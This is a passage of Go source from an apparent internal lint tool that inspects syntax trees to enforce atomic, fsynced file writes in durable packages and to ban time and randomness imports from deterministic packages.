			osName = "os"
			if imp.Name != nil {
				osName = imp.Name.Name
			}
		}
	}
	if osName == "" || osName == "_" {
		return nil
	}
	var creators []string
	renames := false
	ast.Inspect(file, func(n ast.Node) bool {
		sel, ok := n.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		id, ok := sel.X.(*ast.Ident)
		if !ok || id.Name != osName || id.Obj != nil {
			return true
		}
		switch {
		case sel.Sel.Name == "Rename":
			renames = true
		case fileCreators[sel.Sel.Name]:
			creators = append(creators, fmt.Sprintf(
				"%s: os.%s without os.Rename — checkpoint writes must be atomic (temp file + os.Rename)",
				fset.Position(sel.Pos()), sel.Sel.Name))
		}
		return true
	})
	if renames {
		return nil
	}
	return creators
}

// handleCreators are the os-package calls that open a writable file
// handle. Inside the durable packages (internal/checkpoint,
// internal/lake) a file that opens handles must also call .Sync()
// somewhere: Close() does not flush the page cache, so a
// rename-into-place without an fsync can still lose the bytes on
// power failure. os.WriteFile is flagged outright — it exposes no
// handle to Sync.
var handleCreators = map[string]bool{
	"Create": true, "CreateTemp": true, "OpenFile": true,
}

// checkSyncBeforeClose enforces the fsync half of the durability
// contract on a file from internal/checkpoint or internal/lake: any
// non-test file that opens writable handles must contain at least one
// .Sync() call, and may not use os.WriteFile at all.
func checkSyncBeforeClose(fset *token.FileSet, file *ast.File) []string {
	osName := ""
	for _, imp := range file.Imports {
		if p, _ := strconv.Unquote(imp.Path.Value); p == "os" {
			osName = "os"
			if imp.Name != nil {
				osName = imp.Name.Name
			}
		}
	}
	if osName == "" || osName == "_" {
		return nil
	}
	var creators []string
	syncs := false
	ast.Inspect(file, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		if id, ok := sel.X.(*ast.Ident); ok && id.Name == osName && id.Obj == nil {
			switch {
			case sel.Sel.Name == "WriteFile":
				creators = append(creators, fmt.Sprintf(
					"%s: os.WriteFile in a durable package — it cannot fsync; open a handle and Sync before Close",
					fset.Position(sel.Pos())))
			case handleCreators[sel.Sel.Name]:
				creators = append(creators, fmt.Sprintf(
					"%s: os.%s without a .Sync() in the file — Close does not flush the page cache",
					fset.Position(sel.Pos()), sel.Sel.Name))
			}
			return true
		}
		if sel.Sel.Name == "Sync" && len(call.Args) == 0 {
			syncs = true
		}
		return true
	})
	if syncs {
		// os.WriteFile stays flagged even in a file that Syncs
		// elsewhere: the WriteFile'd bytes themselves are never
		// fsynced.
		var out []string
		for _, c := range creators {
			if strings.Contains(c, "os.WriteFile") {
				out = append(out, c)
			}
		}
		return out
	}
	return creators
}

// impureImports are whole packages banned from internal/colstore:
// the query engine and its generator must be pure functions of their
// inputs, with randomness routed through internal/detrand's stateless
// hash.
var impureImports = map[string]bool{
	"time": true, "math/rand": true, "math/rand/v2": true,
}

// checkPureImports flags internal/colstore files that import a banned
// package, whatever they do with it.
func checkPureImports(fset *token.FileSet, file *ast.File) []string {
	var out []string
	for _, imp := range file.Imports {
		if p, _ := strconv.Unquote(imp.Path.Value); impureImports[p] {
			out = append(out, fmt.Sprintf(
				"%s: colstore imports %q — the columnar engine must stay pure (use internal/detrand)",
				fset.Position(imp.Pos()), p))
		}
	}
	return out
}

// checkServeNoTime flags internal/serve files that import "time" at
// all: every wall-clock read on the serving path must go through
// internal/obs/redplane, so request timing has exactly one owner and
// the serving library stays byte-deterministic for the golden smoke
// diff. (The banned-function scan would miss pure-value uses; the
// import ban keeps the clock entirely out of reach.)
func checkServeNoTime(fset *token.FileSet, file *ast.File) []string {
	var out []string
	for _, imp := range file.Imports {
		if p, _ := strconv.Unquote(imp.Path.Value); p == "time" {
			out = append(out, fmt.Sprintf(
				"%s: serve imports %q — serving-path timing belongs to internal/obs/redplane",
				fset.Position(imp.Pos()), p))
		}
	}
	return out
}

// check scans one file for selector uses of the banned functions on
// the "time" import (under whatever local name it was imported).
func check(fset *token.FileSet, file *ast.File) []string {
	// Resolve the local identifier bound to the time package; files
	// that don't import it can't offend.
	timeName := ""
	for _, imp := range file.Imports {
		path, _ := strconv.Unquote(imp.Path.Value)
		if path != "time" {
			continue
		}
		timeName = "time"
		if imp.Name != nil {
			timeName = imp.Name.Name
		}
	}
	if timeName == "" || timeName == "_" {
		return nil
	}
	var out []string
	ast.Inspect(file, func(n ast.Node) bool {
		sel, ok := n.(*ast.SelectorExpr)
		if !ok || !banned[sel.Sel.Name] {
			return true
		}
		id, ok := sel.X.(*ast.Ident)
		// Obj == nil means the identifier resolves to the package
		// import, not a local variable that happens to shadow it.
		if !ok || id.Name != timeName || id.Obj != nil {
			return true
		}
		out = append(out, fmt.Sprintf("%s: %s.%s reads wall time in a deterministic package",
			fset.Position(sel.Pos()), timeName, sel.Sel.Name))
		return true
	})
	return out
}
